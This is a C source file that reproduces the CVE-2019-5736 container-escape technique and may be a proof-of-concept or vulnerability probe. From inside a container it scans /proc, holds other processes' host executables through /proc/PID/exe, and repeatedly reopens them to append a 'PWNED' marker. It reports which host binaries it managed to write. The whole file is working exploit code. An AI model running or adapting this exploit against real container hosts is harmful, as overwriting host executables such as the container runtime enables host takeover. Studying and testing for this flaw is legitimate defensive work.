/* The CVE-2019-5736 attack shape, from inside a container: for SECONDS, find every process
 * whose executable differs from this one's, hold it by /proc/PID/exe (O_PATH), and try again
 * and again to reopen what it holds for writing and append to it. The container's own files
 * (the target path names the same file here) are left alone. Prints "seen PID TARGET" once per
 * process, and "wrote TARGET" once per process whose executable it could append to. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <sys/stat.h>
#include <unistd.h>

#define MAX 256

int main(int argc, char **argv) {
    int seconds = argc > 1 ? atoi(argv[1]) : 10;
    char self[512] = {0}, path[64], target[512], fdpath[64];
    readlink("/proc/self/exe", self, sizeof self - 1);
    int held[MAX], pids[MAX], n = 0;
    char targets[MAX][128];
    time_t end = time(NULL) + seconds;
    setvbuf(stdout, NULL, _IOLBF, 0);
    while (time(NULL) < end) {
        DIR *proc = opendir("/proc");
        struct dirent *e;
        while (proc && (e = readdir(proc))) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == getpid()) continue;
            int known = 0;
            for (int i = 0; i < n; i++) known |= pids[i] == pid;
            if (known || n == MAX) continue;
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            int fd = open(path, O_PATH);
            if (fd < 0) continue;
            /* The name of what is held, not of what the process ran a moment before: it may
             * have exec'd a file of the container's own since. */
            snprintf(fdpath, sizeof fdpath, "/proc/self/fd/%d", fd);
            ssize_t len = readlink(fdpath, target, sizeof target - 1);
            if (len <= 0 || (target[len] = 0, !strcmp(target, self))) {
                close(fd);
                continue;
            }
            struct stat held_st, here_st;
            if (!fstat(fd, &held_st) && !stat(target, &here_st) && held_st.st_dev == here_st.st_dev &&
                held_st.st_ino == here_st.st_ino) {
                close(fd);
                continue;
            }
            pids[n] = pid;
            held[n] = fd;
            snprintf(targets[n], sizeof targets[n], "%s", target);
            n++;
            printf("seen %d %s\n", pid, target);
        }
        if (proc) closedir(proc);
        for (int i = 0; i < n; i++) {
            if (held[i] < 0) continue;
            snprintf(fdpath, sizeof fdpath, "/proc/self/fd/%d", held[i]);
            int w = open(fdpath, O_WRONLY | O_APPEND);
            if (w < 0) continue;
            if (write(w, "PWNED", 5) == 5) {
                printf("wrote %s\n", targets[i]);
                close(held[i]);
                held[i] = -1;
            }
            close(w);
        }
        usleep(1000);
    }
    return 0;
}
